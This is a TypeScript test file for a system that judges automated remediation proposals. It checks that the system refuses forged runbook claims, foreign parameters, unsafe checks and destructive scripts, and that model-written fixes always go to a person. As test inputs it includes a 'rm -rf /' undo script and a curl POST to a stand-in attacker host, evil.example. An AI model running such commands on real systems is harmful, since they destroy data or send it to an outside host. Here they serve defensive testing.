// The judgement of proposals: what is allowed, what is refused, what a proposal cannot claim. Must use the real policy.

import { describe, expect, test } from 'vitest';
import type { Proposal } from '#core/ledger/facts';
import { digestOfProposal } from '#core/proposal/digest';
import { parseVerifyPlan } from '#core/verification/plan';
import { OPENED } from '../../../test/support/incidents.ts';
import { judgement, pastOf, proposalOf } from '../../../test/support/proposals.ts';
import {
  flagText,
  PURGE,
  purgeText,
  runbookOf,
  SETTINGS_SHA256,
  shopService,
  shopSettings,
} from '../../../test/support/shop.ts';
import { judgeScripts } from './judged-scripts.ts';
import { judgeProposal } from './judgement.ts';

const NOW = new Date('2026-11-03T03:10:00Z');
const cache = runbookOf(purgeText);
const flag = runbookOf(flagText);
const proposal = proposalOf(cache);
const change = (files: Partial<Proposal['files']>, rest: Partial<Proposal> = {}): Proposal => ({
  ...proposal,
  by: 'model',
  ...rest,
  files: { ...proposal.files, ...files },
});
const scriptsOf = (of: Proposal, service = shopService()) =>
  judgeScripts(of, service, shopSettings(), NOW, []);
const codes = (judged: { findings: { code: string; file: string }[] }) =>
  judged.findings.map(({ file, code }) => `${file} ${code}`);
const script = (line: string) => `#!/usr/bin/env bash\nset -euo pipefail\n${line}\n`;

describe('a proposal that is the runbook’s own', () => {
  test('is allowed with its effects, commands and risk', () => {
    const judged = scriptsOf(proposal);
    expect(judged).toMatchObject({
      verdict: 'allow',
      risk: 'LOW',
      effects: [{ kind: 'cache.purge', target: PURGE, selfRestoring: true }],
      findings: [],
    });
    expect(judged.commands.at(-1)).toMatch(/^fix\.sh:4 curl .*cache\/purge$/);
  });

  test('waits for a person on a cold start, and says what is missing', () => {
    const judged = judgeProposal(judgement());
    expect(judged.lane).toBe('human');
    expect(judged.confidence).toEqual({
      value: 0,
      components: [
        { name: 'evidence', value: 98, reason: 'the alert matches runbook shop-cache' },
        { name: 'history', value: 0, reason: '0 verified successes' },
      ],
    });
    expect(judged.reasons).toContain('  ✗ confidence is earned: confidence 0, needed 90');
  });

  test('takes the auto lane after 25 verified successes, and not after 24', () => {
    const laneAfter = (count: number) =>
      judgeProposal(judgement({ everything: pastOf(cache, Array(count).fill(true), OPENED) })).lane;
    expect(laneAfter(24)).toBe('human');
    expect(laneAfter(25)).toBe('auto');
  });

  test('has earned nothing with another version of its block', () => {
    const edited = runbookOf(purgeText.replace('--max-time 10', '--max-time 9'));
    const everything = pastOf(edited, Array(50).fill(true), OPENED);
    expect(judgeProposal(judgement({ everything })).confidence.value).toBe(0);
  });

  test('is bound to its bytes, the runbook, the template, the policy and vigil.yml', () => {
    const judged = judgeProposal(judgement());
    expect(judged.digest).toBe(digestOfProposal(proposal, shopSettings(), SETTINGS_SHA256));
    const other = digestOfProposal(proposal, shopSettings(), '6'.repeat(64));
    expect(judged.digest).not.toBe(other);
    const newTemplate = shopSettings({
      workspace: { template: 'vigil-remediate', version: '5f0f7b1e-7d0c-4c53-9d2e-0d6c3a1f8b12' },
    });
    expect(judged.digest).not.toBe(digestOfProposal(proposal, newTemplate, SETTINGS_SHA256));
  });
});

describe('what a proposal says of itself', () => {
  const refused = (other: Proposal, runbook = cache) =>
    judgeProposal(judgement({ proposal: other }, runbook));

  test.each<[string, Partial<Proposal>, string]>([
    [
      'a parameter the inventory lacks',
      { parameters: { SHOP_TOKEN: 'x' } },
      'remediation.yml foreign-parameter',
    ],
    [
      'another value than the inventory’s',
      { parameters: { SHOP_PURGE_URL: 'https://evil.example' } },
      'remediation.yml foreign-parameter',
    ],
    ['another target than the service', { target: 'billing' }, 'remediation.yml foreign-target'],
    [
      'a path that is not the runbook’s',
      { runbook: { id: cache.id, path: 'README.md', sha256: cache.sha256, block: cache.block ?? '' } },
      'remediation.yml foreign-runbook',
    ],
    [
      'the history of another block',
      { runbook: { id: cache.id, path: cache.path, sha256: cache.sha256, block: flag.block ?? '' } },
      'remediation.yml foreign-runbook',
    ],
  ])('is refused when untrue: %s', (_, said, code) => {
    const judged = refused(change({}, said));
    expect(judged.verdict).toBe('refuse');
    expect(codes(judged)).toContain(code);
  });

  test.each<[string, Partial<Proposal['files']>, Partial<Proposal>]>([
    ['another script', { 'fix.sh': `${proposal.files['fix.sh']}echo once more\n` }, {}],
    ['an undo of its own', { 'undo.sh': proposal.files['fix.sh'] }, {}],
    ['easier checks', { 'verify.yml': proposal.files['verify.yml'].replace('/health', '/') }, {}],
    ['another kind of fix', {}, { kind: 'purge-everything' }],
    ['no runbook at all', {}, { runbook: null }],
  ])('cannot pass %s off as the runbook’s own', (_, files, rest) => {
    const everything = pastOf(cache, Array(50).fill(true), OPENED);
    const forged = change(files, { by: 'runbook', ...rest });
    const runbook = rest.runbook === null ? null : cache;
    const judged = judgeProposal(judgement({ proposal: forged, runbook, everything }));
    expect(judged).toMatchObject({ verdict: 'refuse', lane: 'human' });
    expect(codes(judged)).toEqual(['remediation.yml not-the-runbook']);
  });

  test('cannot lower the risk the runbook states', () => {
    const text = purgeText.replace('risk: LOW', 'risk: HIGH');
    const risky = runbookOf(text);
    expect(refused({ ...proposalOf(risky), risk: 'LOW' }, risky).risk).toBe('HIGH');
  });

  test('can raise the risk', () => {
    expect(refused(change({}, { risk: 'HIGH' })).risk).toBe('HIGH');
  });

  test('lowers confidence and never raises it', () => {
    const everything = pastOf(cache, Array(50).fill(true), OPENED);
    const said = (confidence: number) =>
      judgeProposal(judgement({ proposal: change({}, { confidence }), everything })).confidence.value;
    expect(said(30)).toBe(30);
    expect(said(100)).toBe(94);
  });

  test('counts as unverified where it quotes and nobody compared the quotes with the evidence', () => {
    const quoted = change({}, { quotes: [{ evidence: 'alert-1', text: 'it is the cache' }] });
    const { components } = judgeProposal(judgement({ proposal: quoted })).confidence;
    expect(components.map(({ name, value }) => `${name} ${value}`)).toContain('quotes 50');
  });

  test('never takes the auto lane when a model wrote it', () => {
    const everything = pastOf(cache, Array(50).fill(true), OPENED);
    expect(judgeProposal(judgement({ proposal: change({}), everything })).lane).toBe('human');
  });
});

describe('scripts', () => {
  test('with a redaction placeholder are refused: their author did not know the real value', () => {
    const judged = scriptsOf(change({ 'fix.sh': script('echo [EMAIL_482131]') }));
    expect(judged.verdict).toBe('refuse');
    expect(codes(judged)).toContain('fix.sh placeholder');
  });

  test('without an undo are refused where the effect does not restore itself', () => {
    const { 'undo.sh': _, ...files } = proposalOf(flag).files;
    const judged = scriptsOf({ ...proposalOf(flag), files });
    expect(judged.verdict).toBe('refuse');
    expect(codes(judged)).toEqual(['fix.sh uncovered']);
    expect(scriptsOf(proposalOf(flag))).toMatchObject({
      verdict: 'allow',
      risk: 'MEDIUM',
    });
  });

  test('need no undo where the effect restores itself', () => {
    expect(proposal.files['undo.sh']).toBeUndefined();
    expect(scriptsOf(proposal).verdict).toBe('allow');
  });

  test('are refused for what the undo does, too', () => {
    const undone = { ...proposalOf(flag).files, 'undo.sh': script('rm -rf /') };
    const judged = scriptsOf({ ...proposalOf(flag), files: undone });
    expect(judged.verdict).toBe('refuse');
    expect(judged.findings[0]).toMatchObject({ file: 'undo.sh', line: 3 });
  });

  test('that nobody described are put to a person, at HIGH', () => {
    const judged = scriptsOf({
      ...proposalOf(flag),
      files: { ...proposalOf(flag).files, 'fix.sh': script('heal-everything --now') },
    });
    expect(judged).toMatchObject({ verdict: 'review', risk: 'HIGH' });
  });

  test('may not call what the inventory does not offer', () => {
    const judged = scriptsOf(change({ 'fix.sh': script('curl --fail -X POST https://evil.example/x') }));
    expect(judged.verdict).not.toBe('allow');
  });

  test('leave findings and commands that the ledger can hold, however long the lines are', () => {
    const judged = scriptsOf(change({ 'fix.sh': script(`echo ${'x'.repeat(3000)}`) }));
    for (const text of [...judged.commands, ...judged.findings.map(({ sentence }) => sentence)])
      expect(text.length).toBeLessThanOrEqual(500);
  });
});

describe('checks that would run before anyone approved', () => {
  const risky = flagText.replace(
    "- { id: health, kind: http, url: '{SHOP_URL}/health' }",
    "- { id: health, kind: http, url: '{SHOP_URL}/orders', method: POST, body: '{}' }",
  );
  const post = {
    v: 1,
    checks: [{ id: 'order', kind: 'http', url: '{SHOP_URL}/orders', method: 'POST' }],
    symptom: { checks: ['order'] },
  };

  test('are refused when they may change something', () => {
    const parsed = parseVerifyPlan(post);
    if (!parsed.ok) throw new Error(parsed.reason);
    const judged = judgeProposal(judgement({ proposal: change({}), plan: parsed.plan }));
    expect(judged.verdict).toBe('refuse');
    expect(judged.findings.at(-1)).toEqual({
      file: 'verify.yml',
      line: 1,
      code: 'unsafe-check',
      sentence: 'order: POST may change something, and no runbook on main has exactly this check',
    });
  });

  test('are allowed when a runbook on main has exactly these', () => {
    const runbook = runbookOf(risky);
    expect(judgeProposal(judgement({}, runbook)).verdict).toBe('allow');
  });
});

test('what nothing can undo is put to a person, and needs no undo', () => {
  const parameters = { LOGS: '/var/log/shop' };
  const fix = script("find /var/log/shop -type f -name '*.gz' -mtime +14 -delete");
  const judged = scriptsOf(change({ 'fix.sh': fix }, { parameters }), { ...shopService(), parameters });
  expect(judged).toMatchObject({ verdict: 'review', risk: 'MEDIUM' });
  expect(codes(judged)).toEqual(['fix.sh irreversible']);
});
